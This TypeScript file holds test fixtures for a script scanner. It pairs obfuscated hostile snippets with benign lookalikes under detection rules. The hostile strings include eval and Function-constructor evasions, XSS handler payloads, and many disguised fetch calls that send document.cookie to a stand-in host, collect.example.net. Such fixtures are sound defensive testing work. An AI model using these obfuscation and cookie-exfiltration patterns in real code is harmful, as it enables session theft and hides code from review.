import type { Files } from './scanned.js';
import type { ScriptPack } from './script-attack-packs.js';

const EVIL = 'https://collect.example.net/c';
const page = (source: string): Files => ({ 'web/page.html': source });
const inBase64 = (text: string): string => Buffer.from(text).toString('base64');
const reversed = (text: string): string => [...text].reverse().join('');

const HIDDEN_CODE: readonly ScriptPack[] = [
  {
    what: 'another name of eval',
    attack: 'const run = eval;\nrun(atob("YWxlcnQoMSk="))',
    honest: 'const run = console.log;\nrun(atob("YWxlcnQoMSk="))',
  },
  { what: 'eval by each', attack: '[atob("YWxlcnQoMSk=")].forEach(eval)' },
  { what: 'eval after a promise', attack: 'Promise.resolve(atob("YWxlcnQoMSk=")).then(eval)' },
  { what: 'Reflect.construct', attack: 'Reflect.construct(Function, [atob("YWxlcnQoMSk=")])()' },
  { what: 'the constructor of the constructor of a text', attack: '""["constructor"]["constructor"](atob("YWxlcnQoMSk="))()' },
  {
    what: 'functions that wait',
    attack: 'const F = Object.getPrototypeOf(async function () {}).constructor;\nnew F(atob("YWxlcnQoMSk="))()',
  },
  {
    what: 'a worker',
    attack: 'new Worker(URL.createObjectURL(new Blob([atob("YWxlcnQoMSk=")], { type: "text/javascript" })))',
    honest:
      'const bytes = Uint8Array.from(atob("YWxlcnQoMSk="), (c) => c.charCodeAt(0));\nimage.src = URL.createObjectURL(new Blob([bytes], { type: "image/png" }));\nnew Worker("/extensions/mine/worker.js")',
  },
  {
    what: 'an import of a blob',
    attack:
      'const u = URL.createObjectURL(new Blob([atob("YWxlcnQoMSk=")], { type: "text/javascript" }));\nimport(u)',
  },
  {
    what: 'an import of a data address',
    attack: 'const code = decodeURIComponent("%61lert(1)");\nimport("data:text/javascript," + code)',
  },
  {
    what: 'a node of text in a script',
    attack:
      'const s = document.createElement("script");\ns.appendChild(document.createTextNode(atob("YWxlcnQoMSk=")));\ndocument.head.append(s)',
    honest:
      'const s = document.createElement("pre");\ns.appendChild(document.createTextNode(atob("YWxlcnQoMSk=")))',
  },
  {
    what: 'markup with a handler',
    attack: `document.body.innerHTML = atob("${inBase64('<img src=x onerror=alert(1)>')}")`,
    honest: `document.body.innerHTML = atob("${inBase64('<b>hello</b>')}")`,
  },
  {
    what: 'an address of code',
    attack: 'location.href = "javascript:" + atob("YWxlcnQoMSk=")',
    honest: 'link.href = "data:text/plain," + atob("YWxlcnQoMSk=")',
  },
  { what: 'a handler that is assigned', attack: 'document.body.onclick = new Function(atob("YWxlcnQoMSk="))' },
  {
    what: 'a fragment of markup',
    attack: `document.body.append(document.createRange().createContextualFragment(atob("${inBase64('<img src=x onerror=alert(1)>')}")))`,
  },
  {
    what: 'a text that is unpacked',
    attack:
      'const b = Uint8Array.from(atob("H4sI"), (c) => c.charCodeAt(0));\nconst s = new Blob([b]).stream().pipeThrough(new DecompressionStream("gzip"));\nnew Response(s).text().then((t) => (0, eval)(t))',
  },
  {
    what: 'a text that is decrypted',
    attack:
      'const k = await crypto.subtle.decrypt(a, key, data);\nnew Function(new TextDecoder().decode(k))()',
  },
  {
    what: 'a page within an address',
    attack: page(
      `<iframe src="data:text/html;base64,${inBase64('<script>eval(atob("YWxlcnQoMSk="))</script>')}"></iframe>`,
    ),
    honest: page(`<iframe src="data:text/html;base64,${inBase64('<b>hello</b>')}"></iframe>`),
  },
  {
    what: 'a picture that sets a handler',
    attack: {
      'a.svg': `<svg xmlns="http://www.w3.org/2000/svg"><set attributeName="onmouseover" to="eval(atob('YWxlcnQoMSk='))"/></svg>`,
    },
    honest: {
      'a.svg': '<svg xmlns="http://www.w3.org/2000/svg"><set attributeName="fill" to="red" begin="1s"/></svg>',
    },
  },
  {
    what: 'a document of another kind',
    attack: {
      'a.xml': '<a><script xmlns="http://www.w3.org/1999/xhtml">eval(atob("YWxlcnQoMSk="))</script></a>',
    },
    honest: { 'a.xml': '<a><script>run the tests</script></a>' },
  },
].map((pack) => ({ rule: 'script_runs_hidden_code', ...pack }));

const HIDDEN_NAMES: readonly ScriptPack[] = [
  {
    rule: 'script_sends_store',
    what: 'pieces in an array',
    attack:
      'const a = ["htt", "ps://", "collect.example", ".net/"];\nfetch(a[0] + a[1] + a[2] + a[3] + document["coo" + "kie"])',
  },
  {
    rule: 'script_sends_store',
    what: 'letters as numbers',
    attack: `fetch(String.fromCharCode(${[...EVIL].map((letter) => letter.charCodeAt(0)).join(',')}) + "?" + document.cookie)`,
  },
  {
    rule: 'script_sends_store',
    what: 'a reversed address',
    attack: `fetch([..."${reversed(EVIL)}"].reverse().join(""), { method: "POST", body: document.cookie })`,
  },
  {
    rule: 'script_sends_store',
    what: 'a template',
    attack:
      'const s = "https";\nfetch(`${s}://${["collect", "example", "net"].join(".")}/`, { method: "POST", body: document.cookie })',
  },
  {
    rule: 'script_sends_store',
    what: 'letters that are replaced',
    attack:
      'const u = "hxxps://collect[.]example[.]net".replace("hxxp", "http").replace(/\\[\\.\\]/g, ".");\nfetch(u + "/" + document.cookie)',
  },
  {
    rule: 'script_sends_store',
    what: 'a table that is turned',
    attack: `(function (a, n) { const t = a(); while (!![]) { try { if (-parseInt(b(0x1)) / 0x1 + parseInt(b(0x2)) / 0x2 === n) break; else t["push"](t["shift"]()); } catch (e) { t["push"](t["shift"]()); } } })(a, 0x3f2);
function a() { const t = ["12ab", "cookie", "34cd", "${EVIL}?", "56ef"]; a = function () { return t; }; return a(); }
function b(i, k) { const t = a(); return b = function (i, k) { i = i - 0x0; let r = t[i]; return r; }, b(i, k); }
fetch(b(0x3) + document[b(0x1)]);`,
    honest: `const items = ["dark", "light"];\nfunction next() { items.push(items.shift()); return items[0] }\nfetch("${EVIL}?theme=" + items[count % 2]);\nconst c = document.cookie`,
  },
  {
    rule: 'script_obfuscated',
    what: 'a table that is turned by a tool',
    attack: `(function (a, n) { const t = a(); while (true) { try { if (parseInt(b(1)) / 1 + parseInt(b(2)) / 2 === n) break; t.push(t.shift()); } catch { t.push(t.shift()); } } })(a, 1);`,
    honest: 'const next = () => { const n = parseInt(slides.dataset.count); slides.push(slides.shift()); return n }',
  },
  {
    rule: 'script_hides_names',
    what: 'a name out of a table',
    attack:
      'const t = ["title", "cookie", "body"];\nt.push(t.shift());\nconst at = (i) => t[i - 12];\nsend(document[at(12)]); eval',
    honest:
      'const t = ["exitFullscreen", "webkitExitFullscreen"];\nfor (let i = 0; i < 2; i++) if (document[t[i]]) document[t[i]]()',
  },
  {
    rule: 'script_hides_names',
    what: 'a name as a number',
    attack: 'window[(693741).toString(36)]("1"); window[(14).toString(36) + "val"]("1")',
    honest: 'const id = Math.random().toString(36); window[id] = 1; const n = (693741).toString(16)',
  },
  {
    rule: 'script_hides_names',
    what: 'a decoded name of the document',
    attack: 'const name = atob(parts[1]);\nsend(document[name]); eval',
    honest: 'const name = atob(parts[1]);\nshow(labels[name]); eval',
  },
  {
    rule: 'script_hides_address',
    what: 'an address in Base64',
    attack: `fetch(atob("${inBase64(EVIL)}"))`,
    honest: `fetch("/my/route?q=" + atob("${inBase64('a')}"))`,
  },
  ...[
    ['the number of a host', 'https://3405803781/c'],
    ['a host of version six', 'https://[2001:db8::1]/c'],
    ['a host that begins as a local one', 'https://127.0.0.1.example.net/c'],
    ['slashes the other way', '\\\\\\\\collect.example.net/c'],
    ['no slashes', 'https:collect.example.net/c'],
    ['a line break within', 'ht\\ntps://collect.example.net/c'],
  ].map(([what = '', address = '']) => ({
    rule: 'script_sends_store',
    what,
    attack: `fetch("${address}", { method: "POST", body: document.cookie })`,
  })),
  ...[
    ['this computer', 'http://127.0.0.1:8188/a'],
    ['this computer by version six', 'http://[::1]:8188/a'],
    ['a computer of the house', 'http://192.168.1.20/a'],
  ].map(([what = '', address = '']) => ({
    rule: 'script_sends_store',
    what: `a computer farther away than ${what}`,
    attack: `fetch("${EVIL}", { method: "POST", body: document.cookie })`,
    honest: `fetch("${address}", { method: "POST", body: document.cookie })`,
  })),
];

/** Attacks that hide their code, names and addresses. */
export const HIDDEN_SCRIPT_PACKS: readonly ScriptPack[] = [...HIDDEN_CODE, ...HIDDEN_NAMES];
